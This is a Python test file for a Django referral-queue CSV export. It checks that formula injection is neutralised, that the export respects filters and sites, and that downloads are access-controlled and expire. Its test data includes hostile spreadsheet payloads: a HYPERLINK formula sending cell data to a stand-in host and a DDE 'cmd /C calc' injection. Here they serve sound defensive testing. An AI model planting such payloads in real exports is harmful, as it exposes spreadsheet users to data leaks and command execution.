"""CSV export of the filtered queue, safe against formula injection."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from referrals.export import neutralise
from referrals.models import ReferralState
from tests.clock import TODAY
from tests.conftest import client_for
from tests.patients.factories import PatientFactory
from tests.referrals.factories import make_referral, move

S = ReferralState


@pytest.mark.parametrize(
    "cell,expected",
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://x.example/?"&A1,"click")', '\'=HYPERLINK("http://x.example/?"&A1,"click")'),
        ("+41 22 555", "'+41 22 555"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1", "'\n=1"),
        ("\x00x", "'\x00x"),
        ("\x1bx", "'\x1bx"),
        ("\x7fx", "'\x7fx"),
        ("cmd|' /C calc'!A0", "cmd|' /C calc'!A0"),
        ("A=1", "A=1"),
        ("plain", "plain"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_neutralise(cell, expected) -> None:
    assert neutralise(cell) == expected


def ask(client, **params):
    """Ask for an export as the queue's button does; the task runs when the request's transaction commits."""
    from referrals.models import QueueExport

    response = client.post(reverse("referrals:export"), params)
    assert response.status_code == 302
    export = QueueExport.objects.order_by("-pk").first()
    assert export.status == "queued"  # the page answered before the file was written
    return export


def download(client, export) -> bytes:
    response = client.get(reverse("referrals:export_download", kwargs={"pk": export.pk}))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"] and "no-store" in response["Cache-Control"]
    return b"".join(response.streaming_content)


def export(client, **params) -> list[list[str]]:
    from referrals.exports import write

    job = ask(client, **params)
    assert write(job.pk) == "done"
    return list(csv.reader(io.StringIO(download(client, job).decode())))


@pytest.mark.django_db
def test_hostile_values_are_neutralised_in_the_file(site_a, staff) -> None:
    patient = PatientFactory(site=site_a, identifier="=cmd|' /C calc'!A0")
    referral = make_referral(patient, staff, state=S.IN_REVIEW)
    move(referral, staff, S.REFERRED, centre="@evil centre", referred_on=TODAY)
    header, row = export(client_for(staff), state="all")
    assert header[0] == "referral" and len(row) == len(header)
    values = dict(zip(header, row, strict=True))
    assert values["patient"] == "'=cmd|' /C calc'!A0"
    assert values["centre"] == "'@evil centre"
    assert values["state"] == "Referred" and values["pathway"] == "HSCT"
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row)


@pytest.mark.django_db
def test_export_follows_the_filters_and_sites(site_a, site_b, staff) -> None:
    make_referral(PatientFactory(site=site_a, identifier="NEW-A"))
    make_referral(PatientFactory(site=site_a, identifier="REV-A"), staff, state=S.IN_REVIEW)
    make_referral(PatientFactory(site=site_b, identifier="NEW-B"))
    client = client_for(staff)
    assert sorted(r[1] for r in export(client)[1:]) == ["NEW-A", "REV-A"]
    assert [r[1] for r in export(client, state="in_review")[1:]] == ["REV-A"]


@pytest.mark.django_db
def test_export_uses_none_of_the_forbidden_words(site_a, staff) -> None:
    make_referral(PatientFactory(site=site_a), staff, state=S.IN_REVIEW)
    text = "\n".join(",".join(r) for r in export(client_for(staff), state="all")).lower()
    for word in ("eligible", "eligibility", "approved", "candidate"):
        assert word not in text


def streamed_before(user, **params) -> bytes:
    """The file as the queue exported it inside the request, before the export became a job."""
    from django.http import QueryDict
    from django.utils import timezone

    from referrals import queue as q
    from referrals.export import csv_lines

    f = q.QueueFilters.from_params(QueryDict(mutable=True) | params if params else QueryDict())
    _base, rows = q.matching(user, f, now=timezone.now())
    return "".join(csv_lines(q.in_order(rows, f).iterator())).encode()


@pytest.mark.django_db
@pytest.mark.parametrize("params", [{}, {"state": "all"}, {"state": "all", "sort": "newest"}, {"pathway": "msc"}])
def test_the_job_writes_the_rows_of_the_export_it_replaces(site_a, site_b, staff, params) -> None:
    from referrals.exports import write

    for i, state in enumerate([S.NEW, S.IN_REVIEW, S.NEW, S.IN_REVIEW, S.NEW]):
        make_referral(PatientFactory(site=site_a, identifier=f"=A{i}"), staff, state=state)
    make_referral(PatientFactory(site=site_a, identifier="M1"), staff, pathway="msc")
    make_referral(PatientFactory(site=site_b, identifier="OTHER"))
    client = client_for(staff)
    job = ask(client, **params)
    write(job.pk)
    body = download(client, job)
    assert body == streamed_before(staff, **params) and b"OTHER" not in body
    job.refresh_from_db()
    assert job.rows == body.count(b"\n") - 1 and len(job.content) < len(body) + 200


@pytest.mark.django_db
def test_only_the_user_who_asked_downloads_it_and_not_after_it_expired(site_a, staff, specialist, settings) -> None:
    import time_machine
    from django.utils import timezone

    from referrals.exports import keep_for, write
    from referrals.models import QueueExport

    settings.EXPORT_KEEP_HOURS = 0.1  # six minutes: within the session's idle time
    make_referral(PatientFactory(site=site_a))
    client = client_for(staff)
    job = ask(client)
    url = reverse("referrals:export_download", kwargs={"pk": job.pk})
    page = client.get(reverse("referrals:export")).content.decode()
    assert "Queued" in page or "queued" in page
    assert client.get(url).status_code == 302  # not ready yet: back to the list, which says so
    write(job.pk)
    assert write(job.pk) == "not queued"  # written once
    assert "Download CSV" in client.get(reverse("referrals:export")).content.decode()
    assert client_for(specialist).get(url).status_code == 404  # same site, another user
    with time_machine.travel(timezone.now() + keep_for()):
        assert client.get(url).status_code == 410
        ask(client)  # the next request deletes the expired files
        assert not QueueExport.objects.filter(pk=job.pk).exists()


@pytest.mark.django_db
def test_the_file_is_written_with_the_sites_the_user_has_then(site_a, site_b, staff) -> None:
    from referrals.exports import write

    make_referral(PatientFactory(site=site_a, identifier="A1"))
    client = client_for(staff)
    job = ask(client)
    staff.sites.set([site_b])  # moved to another site before the worker got to it
    write(job.pk)
    assert b"A1" not in download(client, job)


@pytest.mark.django_db
def test_asking_commits_and_sends_the_job_to_the_worker(site_a, staff, django_capture_on_commit_callbacks) -> None:
    from referrals.models import QueueExport

    make_referral(PatientFactory(site=site_a, identifier="A1"))
    with django_capture_on_commit_callbacks(execute=True):
        client_for(staff).post(reverse("referrals:export"), {"state": "all"})
    job = QueueExport.objects.get()
    assert job.status == "done" and job.rows == 1 and job.query == "state=all"
